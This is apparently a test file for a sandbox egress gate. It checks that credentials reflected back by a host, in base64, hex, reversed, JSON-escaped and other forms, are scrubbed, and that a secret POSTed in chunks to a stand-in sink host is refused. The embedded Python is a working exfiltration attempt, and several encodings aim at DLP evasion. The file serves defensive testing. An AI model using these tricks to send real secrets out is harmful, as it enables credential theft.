import { afterAll, beforeAll, expect, test } from "bun:test";
import { runBottle } from "../../helpers/cli.ts";
import { type Attacker, SETUP_TIMEOUT_MS, TEST_TIMEOUT_MS, describeEscape, tearDown, upAttacker, deniedCount } from "../../helpers/escape-world.ts";
import { b64, b64url, everyByte, hex, jsonEveryChar, reversed } from "../../helpers/spellings.ts";
import { makeTestCa } from "../../helpers/tls.ts";
import { startEchoHost, type WorldHost } from "../../helpers/world.ts";

/**
 * Secrets through the gate in the other directions: a credential route's
 * host that reflects the injected token back to the bottle (in header names,
 * values and the body, encoded every way it can think of), and the bottle's
 * own secret in a plain-HTTP request body. The world is one container under
 * made-up names: `reflect.test` (HTTPS, the route's host, with a certificate
 * from a test CA the bottle's manifest trusts) and `sink.test` (plain HTTP,
 * a raw TCP server that logs every byte it receives).
 */

const TOKEN = `refl-${crypto.randomUUID().replace(/-/g, "")}`;
const SECRET = `leak-${crypto.randomUUID().replace(/-/g, "").slice(0, 24)}`;
const PLACEHOLDER = "bottle-placeholder-REFLECT_TOKEN";

const WORLD = `
const https = require("node:https"), net = require("node:net");
const ev = (o) => console.log("EV " + JSON.stringify(o));
let pending = 2;
const ready = () => { if (--pending === 0) console.log("listening"); };
const pct = (b, p) => [...b].map((x) => p + x.toString(16).padStart(2, "0")).join("");
// The Authorization value ("Bearer <token>") the way a careless or hostile echo service might send it back.
function forms(auth) {
  const token = auth.replace(/^Bearer /, ""), bytes = Buffer.from(auth);
  return {
    plain: auth,
    base64: bytes.toString("base64"),
    "base64-token": Buffer.from(token).toString("base64"),
    "base64-user-token": Buffer.from("u:" + token).toString("base64"),
    base64url: bytes.toString("base64url"),
    hex: bytes.toString("hex"),
    "hex-upper": bytes.toString("hex").toUpperCase(),
    reversed: [...auth].reverse().join(""),
    json: [...auth].map((c) => "\\\\u" + c.charCodeAt(0).toString(16).padStart(4, "0")).join(""),
    percent: pct(bytes, "%"),
  };
}
https.createServer({ cert: process.env.TLS_CERT, key: process.env.TLS_KEY }, (req, res) => {
  const auth = String(req.headers.authorization || ""), token = auth.replace(/^Bearer /, "");
  ev({ ev: "reflect", url: req.url, authorization: auth });
  if (req.url === "/double") {
    // Percent-encoded twice: no form the scrubber replaces, but DLP decodes it.
    res.writeHead(200, { "content-type": "text/plain", "x-double": pct(Buffer.from(token), "%25") });
    res.end("double\\n");
    return;
  }
  const sent = forms(auth);
  ev({ ev: "sent", forms: sent });
  const headers = [["content-type", "text/plain"], ["x-echo-" + token, "in a name"], ["x-hex-" + Buffer.from(token).toString("hex"), "in a name"]];
  for (const [name, value] of Object.entries(sent)) headers.push(["x-form-" + name, value]);
  res.writeHead(200, headers.flat());
  const body = Object.entries(sent).map(([name, value]) => name + "=" + value + "\\n").join("") + '{"authorization":"' + sent.json + '"}\\n';
  // Small writes a moment apart: forms are cut between chunks.
  let at = 0;
  const next = () => { if (at >= body.length) return res.end(); res.write(body.slice(at, at + 5)); at += 5; setTimeout(next, 1); };
  next();
}).listen(443, "0.0.0.0", ready);
// A raw HTTP sink: every byte it receives is logged; a complete request is answered.
net.createServer((s) => {
  const conn = Math.random().toString(36).slice(2);
  let buf = Buffer.alloc(0), answered = false;
  s.on("error", () => {});
  s.on("data", (d) => {
    buf = Buffer.concat([buf, d]);
    ev({ ev: "sink-bytes", conn, data: d.toString("base64") });
    const end = buf.indexOf("\\r\\n\\r\\n");
    if (end < 0 || answered) return;
    const head = buf.subarray(0, end).toString("latin1"), body = buf.subarray(end + 4).toString("latin1");
    const length = /\\r\\ncontent-length: *(\\d+)/i.exec(head);
    const complete = length ? body.length >= Number(length[1]) : /\\r\\ntransfer-encoding: *chunked/i.test(head) ? /(^|\\r\\n)0\\r\\n\\r\\n$/.test(body) : true;
    if (!complete) return;
    answered = true;
    ev({ ev: "sink-request", conn, case: (/\\r\\nx-case: *([^\\r]*)/i.exec(head) || [])[1] || null, body });
    s.end("HTTP/1.1 200 OK\\r\\nContent-Length: 3\\r\\nConnection: close\\r\\n\\r\\nok\\n");
  });
}).listen(80, "0.0.0.0", ready);
`;

interface WorldEvent {
  ev: string;
  url?: string;
  authorization?: string;
  forms?: Record<string, string>;
  conn?: string;
  data?: string;
  case?: string | null;
  body?: string;
}

/**
 * In the bottle: POSTs to http://sink.test through the gate with $LEAK_ME in
 * the body, written in pieces a moment apart (python3, so that each piece is
 * its own write and its own chunk). Prints one `CASE <name> <response>` each.
 */
const BODY_PY = `
import binascii, os, socket, sys, time
secret = os.environ["LEAK_ME"].encode()
b64 = binascii.b2a_base64(secret, newline=False)
def chunk(data): return b"%x\\r\\n" % len(data) + data + b"\\r\\n"
def head(case, framing): return b"POST http://sink.test/upload HTTP/1.1\\r\\nHost: sink.test\\r\\nX-Case: " + case.encode() + b"\\r\\n" + framing + b"\\r\\n"
def chunked(case, pieces): return [head(case, b"Transfer-Encoding: chunked\\r\\n")] + [chunk(p) for p in pieces] + [b"0\\r\\n\\r\\n"]
def length(case, pieces): return [head(case, b"Content-Length: %d\\r\\n" % sum(len(p) for p in pieces))] + pieces
cases = {
  "plain-chunked": chunked("attack", [b"data=", secret[:9], secret[9:]]),
  "base64-chunked": chunked("attack", [b"data=", b64[:9], b64[9:]]),
  "plain-length": length("attack", [b"data=" + secret[:9], secret[9:]]),
  "control": chunked("control", [b"data=", b"harmless-", b"value"]),
}
for name, writes in cases.items():
  s = socket.create_connection(("gate", 3128))
  for data in writes:
    try: s.sendall(data)
    except OSError: break
    time.sleep(0.2)
  s.settimeout(5)
  answer = b""
  try:
    while True:
      got = s.recv(65536)
      if not got: break
      answer += got
  except OSError: pass
  s.close()
  sys.stdout.write("\\nCASE " + name + " " + answer.decode("latin1"))
`;

/** The characters of `secret`'s base64 determined by the secret alone, `shift` bytes into a run. */
function base64Core(secret: string, shift: number, url = false): string {
  const encoded = url ? b64url(`${"x".repeat(shift)}${secret}`) : b64(`${"x".repeat(shift)}${secret}`);
  return encoded.slice(Math.ceil((8 * shift) / 6), Math.floor((8 * (shift + secret.length)) / 6));
}

/** What of `secret` must never show up: each form, as the part only the secret determines. */
function cores(secret: string): Record<string, string> {
  return {
    plain: secret,
    hex: hex(secret),
    HEX: hex(secret).toUpperCase(),
    reversed: reversed(secret),
    json: jsonEveryChar(secret),
    percent: everyByte(secret),
    ...Object.fromEntries([0, 1, 2].flatMap((shift) => [[`base64+${shift}`, base64Core(secret, shift)], [`base64url+${shift}`, base64Core(secret, shift, true)]])),
  };
}

describeEscape(["docker"], "the test world sits on the docker backend's egress network", "secrets leaking through bodies and reflections", () => {
  let attacker: Attacker;
  let world: WorldHost;
  const events = (): WorldEvent[] =>
    Bun.spawnSync(["docker", "logs", world.container], { stdout: "pipe" })
      .stdout.toString()
      .split("\n")
      .filter((line) => line.startsWith("EV "))
      .map((line) => JSON.parse(line.slice(3)) as WorldEvent);

  beforeAll(async () => {
    const ca = makeTestCa();
    attacker = await upAttacker({
      prefix: "esc-leaks",
      sandboxEnv: { REFLECT_TOKEN: TOKEN, ESCAPE_SECRET: SECRET },
      manifest: [
        "egress:",
        "  allow: [sink.test]",
        "  allow_private: [reflect.test, sink.test]",
        "  routes:",
        "    - host: reflect.test",
        "      auth:",
        "        token: ${REFLECT_TOKEN}",
        "env:",
        "  LEAK_ME: ${ESCAPE_SECRET}",
        `ca_certs: [${ca.caPath}]`,
      ],
    });
    const { cert, key } = ca.issue(["reflect.test"]);
    world = startEchoHost(attacker.gateImage, `${attacker.name}-egress`, ["reflect.test", "sink.test"], attacker.label, {
      script: WORLD,
      env: { TLS_CERT: cert, TLS_KEY: key },
    });
  }, SETUP_TIMEOUT_MS);

  afterAll(async () => {
    world?.remove();
    if (attacker) await tearDown(attacker.sandbox, [attacker.name], [attacker.agent]);
  }, SETUP_TIMEOUT_MS);

  test("1. a route's host that reflects the injected token (header names, base64, hex, reversed, JSON-escaped; headers and body) hands the bottle only the placeholder", async () => {
    const out = await attacker.sh(
      "curl -sS --raw -i --max-time 20 https://reflect.test/reflect; echo; echo ==DECODED==; curl -sS -i --max-time 20 https://reflect.test/reflect",
    );
    expect(out.stderr).toBe("");
    // The host did get the real token, and did send it back in every form.
    const reflected = events().filter((e) => e.ev === "reflect" && e.url === "/reflect");
    expect(reflected.length).toBe(2);
    for (const e of reflected) expect(e.authorization).toBe(`Bearer ${TOKEN}`);
    const sent = events().find((e) => e.ev === "sent")?.forms ?? {};
    expect(Object.keys(sent).length).toBe(10);
    // What the bottle received, raw (chunk framing included) and decoded.
    // (curl -i prints the proxy's CONNECT answer first.)
    expect(out.stdout).toContain("\r\n\r\nHTTP/1.1 200 OK\r\n");
    expect(out.stdout.toLowerCase()).toContain(`x-echo-${PLACEHOLDER.toLowerCase()}: in a name`);
    expect(out.stdout).toContain(`x-form-plain: Bearer ${PLACEHOLDER}`);
    expect(out.stdout).toContain(`plain=Bearer ${PLACEHOLDER}`);
    for (const [form, text] of [...Object.entries(sent), ...Object.entries(cores(TOKEN))]) {
      expect({ form, seen: out.stdout.includes(text) }).toEqual({ form, seen: false });
    }
    expect(JSON.stringify(attacker.audit())).not.toContain(TOKEN);
  }, TEST_TIMEOUT_MS);

  test("1. a response whose header still carries the token in a form the scrubber does not replace (percent-encoded twice) is refused: 502", async () => {
    const out = await attacker.sh("curl -sS -i --max-time 20 https://reflect.test/double");
    expect(events().some((e) => e.ev === "reflect" && e.url === "/double" && e.authorization === `Bearer ${TOKEN}`)).toBe(true);
    expect(out.stdout).toContain("\r\n\r\nHTTP/1.1 502 Bad Gateway\r\n");
    expect(out.stdout.toLowerCase()).toContain("x-bottle-egress-rule: credential-echo");
    expect(out.stdout).not.toContain("%25");
    for (const [form, text] of Object.entries(cores(TOKEN))) expect({ form, seen: out.stdout.includes(text) }).toEqual({ form, seen: false });
    const line = await attacker.waitAudit((l) => l.path === "/double");
    expect(line).toMatchObject({ host: "reflect.test", decision: "deny", rule: "credential-echo" });
  }, TEST_TIMEOUT_MS);

  test("2. a plain-HTTP POST whose body carries the bottle's secret (plain and base64, split across chunks and writes) is refused before the body leaves", async () => {
    const out = await attacker.py(BODY_PY);
    const cases = new Map(
      out.stdout
        .split("\nCASE ")
        .slice(1)
        .map((chunk) => [chunk.slice(0, chunk.indexOf(" ")), chunk.slice(chunk.indexOf(" ") + 1)]),
    );
    expect([...cases.keys()]).toEqual(["plain-chunked", "base64-chunked", "plain-length", "control"]);
    expect(cases.get("control")).toStartWith("HTTP/1.1 200");
    for (const name of ["plain-chunked", "base64-chunked", "plain-length"]) {
      const answer = cases.get(name) ?? "";
      expect({ name, status: answer.slice(0, 12) }).toEqual({ name, status: "HTTP/1.1 403" });
      expect(answer).toContain("X-Bottle-Egress-Rule: dlp-secret");
      expect(answer).toContain("in its body");
    }
    // The sink got the control whole, and of the attacks at most their heads: no four bytes in a row of the secret or its base64.
    const all = events();
    expect(all.filter((e) => e.ev === "sink-request").map((e) => [e.case, e.body])).toEqual([["control", "5\r\ndata=\r\n9\r\nharmless-\r\n5\r\nvalue\r\n0\r\n\r\n"]]);
    const received = Buffer.concat(all.filter((e) => e.ev === "sink-bytes").map((e) => Buffer.from(e.data ?? "", "base64"))).toString("latin1");
    expect(received).toContain("X-Case: attack");
    for (const text of [SECRET, b64(SECRET)]) {
      for (let i = 0; i + 4 <= text.length; i++) expect({ piece: text.slice(i, i + 4), seen: received.includes(text.slice(i, i + 4)) }).toEqual({ piece: text.slice(i, i + 4), seen: false });
    }
    // Repeats of one denial are counted on one line once their interval ends (denials.ts).
    const denials = await attacker.waitDenials((l) => l.rule === "dlp-secret", 3);
    expect(deniedCount(denials)).toBe(3);
    for (const line of denials) expect(line).toMatchObject({ method: "POST", host: "sink.test", path: "<redacted>", decision: "deny" });
    const logs = await runBottle(attacker.sandbox, ["logs", attacker.name, "--gate", "egress", "--json"]);
    expect(logs.stdout).not.toContain(SECRET);
  }, TEST_TIMEOUT_MS);
});
